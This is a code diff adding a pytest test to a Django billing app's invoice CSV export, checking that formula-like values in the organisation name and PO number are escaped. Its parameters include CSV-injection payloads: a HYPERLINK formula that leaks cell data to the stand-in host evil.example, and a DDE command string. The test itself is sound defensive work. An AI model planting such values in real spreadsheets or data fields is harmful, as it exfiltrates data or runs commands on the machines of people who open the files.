@@ -12,6 +12,7 @@ from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
 from django.urls import reverse
 
 from members.billing.models import BillingFlag, Invoice
+from members.billing.services.invoices import invoice_issue
 from members.billing.services.payments import in_kind_record
 from tests.auth import sign_in
 from tests.billing.conftest import make_sponsor, pay_by_checkout
@@ -169,6 +170,21 @@ def test_csv_export_lists_every_invoice(client, invoice):
     response = client.get(reverse("billing_manage:export"))
     rows = list(csv.reader(io.StringIO(response.content.decode())))
     assert rows[0][0] == "number" and rows[1][0] == invoice.number and rows[1][4] == "250000"
+
+
+@pytest.mark.parametrize(
+    "text", ['=HYPERLINK("http://evil.example/?d="&A1,"PO")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+)
+def test_csv_export_neutralises_formulas_in_legal_name_and_po_number(client, clock, text):
+    sponsor = make_sponsor(legal_name=text)
+    invoice = invoice_issue(membership=sponsor)
+    Invoice.objects.filter(pk=invoice.pk).update(po_number=text)
+    _treasurer(client)
+    rows = list(csv.reader(io.StringIO(client.get(reverse("billing_manage:export")).content.decode())))
+    header, row = rows[0], rows[1]
+    assert row[header.index("organisation")] == "'" + text
+    assert row[header.index("po_number")] == "'" + text
+    assert row[header.index("amount_minor")] == str(invoice.amount_minor)  # a number, not text
 
 
 def test_treasurer_records_in_kind_dues(client, invoice):
